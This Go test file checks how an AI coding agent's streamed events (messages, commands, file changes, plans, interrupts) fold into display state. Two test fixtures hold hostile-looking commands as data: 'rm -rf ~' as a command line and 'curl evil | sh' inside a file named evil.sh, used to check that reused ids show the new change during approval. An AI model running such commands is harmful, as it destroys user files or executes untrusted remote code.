package thread

import (
	"fmt"
	"strings"
	"testing"

	"tandem/backend"
)

func started(turn string, it backend.Item) backend.Event {
	e := backend.ItemStartedEvent{Item: it}
	e.ThreadID, e.TurnID = "th", turn
	return e
}

func completed(turn string, it backend.Item) backend.Event {
	e := backend.ItemCompletedEvent{Item: it}
	e.ThreadID, e.TurnID = "th", turn
	return e
}

func agentDelta(thread, turn, id, delta string) backend.Event {
	e := backend.AgentMessageDeltaEvent{ItemID: id, Delta: delta}
	e.ThreadID, e.TurnID = thread, turn
	return e
}

func outputDelta(turn, id, delta string) backend.Event {
	e := backend.CommandOutputDeltaEvent{ItemID: id, Delta: delta}
	e.ThreadID, e.TurnID = "th", turn
	return e
}

func reasoningDelta(turn, id, delta string) backend.Event {
	e := backend.ReasoningSummaryDeltaEvent{ItemID: id, Delta: delta}
	e.ThreadID, e.TurnID = "th", turn
	return e
}

func turnCompleted(turn string, status string) backend.Event {
	e := backend.TurnCompletedEvent{Turn: backend.Turn{ID: turn, Status: status}}
	e.ThreadID = "th"
	return e
}

func agent(id, text string) backend.Item {
	return backend.Item{Type: "agentMessage", ID: id, Text: text}
}

func command(id, status string, exit int, agg *string) backend.Item {
	return backend.Item{Type: "commandExecution", ID: id, Command: "ls", Status: status, ExitCode: &exit, AggregatedOutput: agg}
}

func commandLine(id, line string) backend.Item {
	zero := 0
	return backend.Item{Type: "commandExecution", ID: id, Command: line, Status: "completed", ExitCode: &zero}
}

func ptr[T any](v T) *T { return &v }

// summary writes the state as one line per item: kind, key, status, text
// or output, so a case states the whole result.
func summary(s *State) string {
	var b strings.Builder
	kinds := map[Kind]string{User: "user", Agent: "agent", Reasoning: "reasoning", Command: "command", FileChange: "file", Tool: "tool", Plan: "plan"}
	for _, it := range s.Items() {
		fmt.Fprintf(&b, "%s %s/%s", kinds[it.Kind], it.Key.Turn, it.Key.Item)
		if it.Status != "" {
			fmt.Fprintf(&b, " [%s]", it.Status)
		}
		if it.Done {
			b.WriteString(" done")
		}
		if it.Cut {
			b.WriteString(" cut")
		}
		switch it.Kind {
		case Command:
			fmt.Fprintf(&b, " %q", strings.Join(it.Output.Tail(10), "|"))
		case FileChange:
			for _, f := range it.Files {
				fmt.Fprintf(&b, " %s:%s", f.Kind, f.Path)
			}
		case Tool:
			if it.Quiet {
				b.WriteString(" quiet")
			}
			fmt.Fprintf(&b, " %q", it.Title)
			if it.Detail != "" {
				fmt.Fprintf(&b, " %q", it.Detail)
			}
		case Plan:
			for _, st := range it.Steps {
				fmt.Fprintf(&b, " %s=%s", st.Step, st.Status)
			}
		default:
			fmt.Fprintf(&b, " %q", it.Text())
		}
		b.WriteString("\n")
	}
	return b.String()
}

// TestApply is the fold's table: event sequences and the state they
// leave.
func TestApply(t *testing.T) {
	turnA, turnB := "turn-a", "turn-b"
	cases := []struct {
		name   string
		events []backend.Event
		want   string
	}{
		{
			name: "a provider reusing item ids across turns keeps both turns' answers",
			events: []backend.Event{
				started(turnA, agent("msg_1", "")), agentDelta("th", turnA, "msg_1", "first answer"), completed(turnA, agent("msg_1", "first answer")),
				started(turnB, agent("msg_1", "")), agentDelta("th", turnB, "msg_1", "second"), completed(turnB, agent("msg_1", "second answer")),
			},
			want: "agent turn-a/msg_1 done \"first answer\"\nagent turn-b/msg_1 done \"second answer\"\n",
		},
		{
			name: "a command that already ran is not turned into the next turn's declined one",
			events: []backend.Event{
				completed(turnA, command("call_1", "completed", 0, ptr("ok\n"))),
				started(turnB, command("call_1", "inProgress", 0, nil)), completed(turnB, command("call_1", "declined", 0, nil)),
			},
			want: "command turn-a/call_1 [completed] done \"ok\"\ncommand turn-b/call_1 [declined] done \"\"\n",
		},
		{
			name: "item/completed before item/started: the late start changes nothing",
			events: []backend.Event{
				completed(turnA, agent("m", "the whole answer")), started(turnA, agent("m", "")),
				completed(turnA, command("c", "completed", 0, ptr("out"))), started(turnA, command("c", "inProgress", 0, nil)),
			},
			want: "agent turn-a/m done \"the whole answer\"\ncommand turn-a/c [completed] done \"out\"\n",
		},
		{
			name: "a command reusing a completed command's id is an item of its own",
			events: []backend.Event{
				started(turnA, command("dup", "inProgress", 0, nil)), completed(turnA, command("dup", "completed", 0, ptr("one\n"))),
				started(turnA, commandLine("dup", "rm -rf ~")), completed(turnA, commandLine("dup", "rm -rf ~")),
			},
			want: "command turn-a/dup [completed] done \"one\"\ncommand turn-a/dup [completed] done \"\"\n",
		},
		{
			name: "a delta for an unknown item creates it",
			events: []backend.Event{
				agentDelta("th", turnA, "ghost", "boo"), outputDelta(turnA, "cmd", "line 1\n"), outputDelta(turnA, "cmd", "line 2\n"),
			},
			want: "agent turn-a/ghost \"boo\"\ncommand turn-a/cmd [inProgress] \"line 1|line 2\"\n",
		},
		{
			name: "events of another thread are ignored",
			events: []backend.Event{
				agentDelta("other", turnA, "m", "not ours"), agentDelta("th", turnA, "m", "ours"),
				func() backend.Event {
					e := completed(turnA, agent("x", "theirs")).(backend.ItemCompletedEvent)
					e.ThreadID = "other"
					return e
				}(),
			},
			want: "agent turn-a/m \"ours\"\n",
		},
		{
			name: "streamed output is kept; the aggregate fills in only when nothing streamed",
			events: []backend.Event{
				started(turnA, command("c1", "inProgress", 0, nil)), outputDelta(turnA, "c1", "streamed\n"), completed(turnA, command("c1", "completed", 0, ptr("aggregate\n"))),
				completed(turnA, command("c2", "completed", 1, ptr("only aggregate\n"))),
			},
			want: "command turn-a/c1 [completed] done \"streamed\"\ncommand turn-a/c2 [completed] done \"only aggregate\"\n",
		},
		{
			name: "the final text replaces what streamed; an empty final keeps it",
			events: []backend.Event{
				agentDelta("th", turnA, "m", "draft"), completed(turnA, agent("m", "final")),
				agentDelta("th", turnA, "n", "kept"), completed(turnA, agent("n", "")),
			},
			want: "agent turn-a/m done \"final\"\nagent turn-a/n done \"kept\"\n",
		},
		{
			name: "user messages appear once complete; unknown item types as a quiet line; tools get a title",
			events: []backend.Event{
				started(turnA, backend.Item{Type: "userMessage", ID: "u"}),
				completed(turnA, backend.Item{Type: "userMessage", ID: "u", Content: []backend.UserContent{{Type: "text", Text: "hi"}}}),
				completed(turnA, backend.Item{Type: "somethingNew", ID: "s"}),
				completed(turnA, backend.Item{Type: "webSearch", ID: "w", Query: "go generics"}),
			},
			want: "user turn-a/u done \"hi\"\ntool turn-a/s [completed] done quiet \"item of a kind tandem does not show: somethingNew\"\ntool turn-a/w [completed] done \"Searched the web: go generics\"\n",
		},
		{
			name: "sub-agents, hooks, images, waits: a cell each",
			events: []backend.Event{
				completed(turnA, backend.Item{Type: "collabAgentToolCall", ID: "c", Tool: "spawnAgent", Status: "completed", Prompt: ptr("look at the tests"),
					ReceiverThreadIDs: []string{"01a2aaaa-bbbb-cccc-dddd-eeeeffffc210"}, AgentsStates: map[string]backend.CollabAgentState{"01a2aaaa-bbbb-cccc-dddd-eeeeffffc210": {Status: "running"}}}),
				completed(turnA, backend.Item{Type: "collabAgentToolCall", ID: "w", Tool: "wait", Status: "completed",
					ReceiverThreadIDs: []string{"01a2aaaa-bbbb-cccc-dddd-eeeeffffc210"}, AgentsStates: map[string]backend.CollabAgentState{"01a2aaaa-bbbb-cccc-dddd-eeeeffffc210": {Status: "completed", Message: ptr("all green")}}}),
				completed(turnA, backend.Item{Type: "subAgentActivity", ID: "s", AgentPath: "/root/tester", Activity: "completed"}),
				completed(turnA, backend.Item{Type: "imageGeneration", ID: "i", Status: "completed", SavedPath: ptr("/w/cat.png")}),
				completed(turnA, backend.Item{Type: "sleep", ID: "z", DurationMs: ptr(int64(3000))}),
				func() backend.Event {
					ev, _ := backend.DecodeNotification("hook/completed", []byte(`{"threadId":"th","turnId":"turn-a","run":{"id":"h1","eventName":"preToolUse","handlerType":"command","executionMode":"sync","status":"completed","sourcePath":"/w/.codex/hooks.json","durationMs":12,"entries":[{"kind":"feedback","text":"looks fine"}]}}`))
					return ev
				}(),
			},
			want: "tool turn-a/c [completed] done \"Spawned sub-agent 01a2…c210\" \"prompt: look at the tests\\n01a2…c210: running\"\n" +
				"tool turn-a/w [completed] done \"Waited for sub-agent 01a2…c210\" \"01a2…c210: completed — all green\"\n" +
				"tool turn-a/s [completed] done \"Sub-agent /root/tester finished\"\n" +
				"tool turn-a/i [completed] done \"Generated an image → /w/cat.png\"\n" +
				"tool turn-a/z [completed] done \"Waited 3s\"\n" +
				"tool turn-a/hook:h1 [completed] done quiet \"hook preToolUse (command /w/.codex/hooks.json): completed in 12ms\" \"feedback: looks fine\"\n",
		},
		{
			name: "a plan per turn, replaced by each update; patches update file changes",
			events: []backend.Event{
				backend.PlanUpdatedEvent{Plan: []backend.PlanStep{{Step: "a", Status: "inProgress"}}},
				backend.PlanUpdatedEvent{Plan: []backend.PlanStep{{Step: "a", Status: "completed"}, {Step: "b", Status: "pending"}}},
				started(turnA, backend.Item{Type: "fileChange", ID: "f", Status: "inProgress", Changes: []backend.FileChange{{Path: "/w/a.go", Kind: backend.PatchChangeKind{Type: "add"}}}}),
				func() backend.Event {
					e := backend.PatchUpdatedEvent{ItemID: "f", Changes: []backend.FileChange{{Path: "/w/b.go", Kind: backend.PatchChangeKind{Type: "update"}}}}
					e.ThreadID, e.TurnID = "th", turnA
					return e
				}(),
			},
			want: "plan /plan a=completed b=pending\nfile turn-a/f [inProgress] update:/w/b.go\n",
		},
		{
			name: "an interrupt cuts the turn's answer and summary still streaming, not another turn's",
			events: []backend.Event{
				agentDelta("th", turnB, "other", "other turn"),
				reasoningDelta(turnA, "r", "**Plan**"),
				agentDelta("th", turnA, "m", "## Half an ans"),
				turnCompleted(turnA, backend.TurnInterrupted),
			},
			want: "agent turn-b/other \"other turn\"\nreasoning turn-a/r done cut \"**Plan**\"\nagent turn-a/m done cut \"## Half an ans\"\n",
		},
		{
			name: "a steer (the user's message starts in the turn) cuts the answer streaming; the next answer is whole",
			events: []backend.Event{
				agentDelta("th", turnA, "m1", "Half an ans"),
				started(turnA, backend.Item{Type: "userMessage", ID: "u2"}),
				completed(turnA, backend.Item{Type: "userMessage", ID: "u2", Content: []backend.UserContent{{Type: "text", Text: "steer"}}}),
				agentDelta("th", turnA, "m2", "Steered."),
				completed(turnA, agent("m2", "Steered.")),
				turnCompleted(turnA, backend.TurnCompleted),
			},
			want: "agent turn-a/m1 done cut \"Half an ans\"\nuser turn-a/u2 done \"steer\"\nagent turn-a/m2 done \"Steered.\"\n",
		},
		{
			name: "an item that completes after all is whole again, not cut",
			events: []backend.Event{
				agentDelta("th", turnA, "m", "Half"),
				turnCompleted(turnA, backend.TurnInterrupted),
				completed(turnA, agent("m", "Half and the rest.")),
			},
			want: "agent turn-a/m done \"Half and the rest.\"\n",
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var s State
			s.Reset("th")
			for _, ev := range tc.events {
				s.Apply(ev)
			}
			if got := summary(&s); got != tc.want {
				t.Fatalf("state:\n%s\nwant:\n%s", got, tc.want)
			}
		})
	}
}

// TestApplyChanges: what Apply reports, which the transcript follows.
func TestApplyChanges(t *testing.T) {
	var s State
	s.Reset("th")
	ch := s.Apply(agentDelta("th", "t", "m", "a"))
	if !ch.Added || ch.Item == nil || ch.Item.Rev != 1 {
		t.Fatalf("first delta: %+v", ch)
	}
	first := ch.Item
	ch = s.Apply(agentDelta("th", "t", "m", "b"))
	if ch.Added || ch.Item != first || first.Rev != 2 || first.Text() != "ab" {
		t.Fatalf("second delta: %+v, text %q", ch, first.Text())
	}
	gen := first.TextGen
	s.Apply(completed("t", agent("m", "different")))
	if first.TextGen == gen || !first.Done {
		t.Fatal("a final text that differs from the stream must bump TextGen")
	}
	if ch := s.Apply(backend.TokenUsageEvent{TokenUsage: backend.ThreadTokenUsage{Total: backend.TokenUsageBreakdown{TotalTokens: 12}, ModelContextWindow: ptr[int64](1000)}}); !ch.Status || s.Usage.Total != 12 || s.Usage.ContextWindow != 1000 {
		t.Fatalf("usage: %+v %+v", ch, s.Usage)
	}
	if ch := s.Apply(backend.TurnDiffUpdatedEvent{Diff: "diff --git a b"}); !ch.Status || s.Diff == "" {
		t.Fatal("the turn diff is kept")
	}
	if ch := s.Apply(backend.RateLimitsEvent{}); ch.Status || s.RateLimits != nil {
		t.Fatal("an empty rate-limit snapshot keeps the last one")
	}
	if ch := s.Apply(backend.ServerExitedEvent{}); ch.Item != nil || ch.Status {
		t.Fatal("the connection's events are not the fold's")
	}
	if s.Last(Agent) != first || s.Find("", "m") != first || s.Find("t", "m") != first {
		t.Fatal("queries")
	}
}

// A file change that starts under the id of one that completed is its
// own item, and the id finds it: what an approval of that id shows is
// the new change, never the old one.
func TestReusedIDIsANewFileChange(t *testing.T) {
	var s State
	s.Reset("th")
	change := func(path, diff string) backend.Item {
		return backend.Item{Type: "fileChange", ID: "dup", Status: "inProgress",
			Changes: []backend.FileChange{{Path: path, Kind: backend.PatchChangeKind{Type: "add"}, Diff: diff}}}
	}
	s.Apply(started("t", change("/w/harmless.txt", "hello\n")))
	done := change("/w/harmless.txt", "hello\n")
	done.Status = "completed"
	s.Apply(completed("t", done))
	first := s.Find("t", "dup")
	ch := s.Apply(started("t", change("/w/evil.sh", "curl evil | sh\n")))
	if !ch.Added || ch.Item == first {
		t.Fatalf("the second change was folded into the first: %+v", ch)
	}
	if it := s.Find("t", "dup"); it != ch.Item || len(it.Files) != 1 || it.Files[0].Path != "/w/evil.sh" {
		t.Fatalf("the id finds %+v, want the new change", it)
	}
	if len(first.Files) != 1 || first.Files[0].Path != "/w/harmless.txt" {
		t.Fatalf("the first change was rewritten: %+v", first.Files)
	}
	// A repeated start of the open change is that change, not a third.
	if again := s.Apply(started("t", change("/w/evil.sh", "curl evil | sh\n"))); again.Added || again.Item != ch.Item {
		t.Fatalf("a start that repeats an open item's changes: %+v", again)
	}
}

// TestLoad folds history: items complete, keyed by their turn.
func TestLoad(t *testing.T) {
	var s State
	s.Reset("th")
	added := s.Load([]backend.Turn{
		{ID: "t1", Items: []backend.Item{{Type: "userMessage", ID: "u", Content: []backend.UserContent{{Type: "text", Text: "q1"}}}, agent("msg_1", "a1")}},
		{ID: "t2", Items: []backend.Item{{Type: "userMessage", ID: "u", Content: []backend.UserContent{{Type: "text", Text: "q2"}}}, agent("msg_1", "a2")}},
	})
	if len(added) != 4 {
		t.Fatalf("added %d items", len(added))
	}
	want := "user t1/u done \"q1\"\nagent t1/msg_1 done \"a1\"\nuser t2/u done \"q2\"\nagent t2/msg_1 done \"a2\"\n"
	if got := summary(&s); got != want {
		t.Fatalf("state:\n%s\nwant:\n%s", got, want)
	}
}

// Prepend puts older turns in front and keeps what Last and Find give for
// the newer ones; an item already there is not added again.
func TestPrepend(t *testing.T) {
	user := func(id, text string) backend.Item {
		return backend.Item{Type: "userMessage", ID: id, Content: []backend.UserContent{{Type: "text", Text: text}}}
	}
	var s State
	s.Reset("th")
	s.Load([]backend.Turn{{ID: "t3", Items: []backend.Item{user("u", "q3"), agent("msg_1", "a3")}}})
	newest := s.Last(Agent)
	added := s.Prepend([]backend.Turn{
		{ID: "t1", Items: []backend.Item{user("u", "q1"), agent("msg_1", "a1")}},
		{ID: "t2", Items: []backend.Item{user("u", "q2"), agent("msg_1", "a2")}},
		{ID: "t3", Items: []backend.Item{user("u", "q3 again")}}, // overlap: already there
	})
	if len(added) != 4 || added[0].Text() != "q1" || added[3].Text() != "a2" {
		t.Fatalf("added %d items: %+v", len(added), added)
	}
	want := "user t1/u done \"q1\"\nagent t1/msg_1 done \"a1\"\nuser t2/u done \"q2\"\nagent t2/msg_1 done \"a2\"\n" +
		"user t3/u done \"q3\"\nagent t3/msg_1 done \"a3\"\n"
	if got := summary(&s); got != want {
		t.Fatalf("state:\n%s\nwant:\n%s", got, want)
	}
	if s.Last(Agent) != newest {
		t.Fatalf("Last(Agent) = %q, want the newest answer", s.Last(Agent).Text())
	}
	if got := s.Find("", "msg_1"); got != newest {
		t.Fatalf("Find without a turn = %q, want the newest answer", got.Text())
	}
	if got := s.Find("t1", "msg_1"); got == nil || got.Text() != "a1" {
		t.Fatalf("Find(t1) = %+v", got)
	}
	// Events of the newest turn still land on its items.
	s.Apply(agentDelta("th", "t3", "msg_1", "!"))
	if newest.Text() != "a3!" {
		t.Fatalf("delta after Prepend went to %q", newest.Text())
	}
}

// LastTurn is the newest turn with an item, skipping items of no turn (a
// prompt echoed before its turn started).
func TestLastTurn(t *testing.T) {
	var s State
	if got := s.LastTurn(); got != "" {
		t.Fatalf("empty state: %q", got)
	}
	s.Load([]backend.Turn{
		{ID: "t1", Items: []backend.Item{{Type: "agentMessage", ID: "a1", Text: "one"}}},
		{ID: "t2", Items: []backend.Item{{Type: "agentMessage", ID: "a2", Text: "two"}}},
	})
	s.add(Key{"", "echo"}, User, "userMessage")
	if got := s.LastTurn(); got != "t2" {
		t.Fatalf("LastTurn = %q, want t2", got)
	}
}
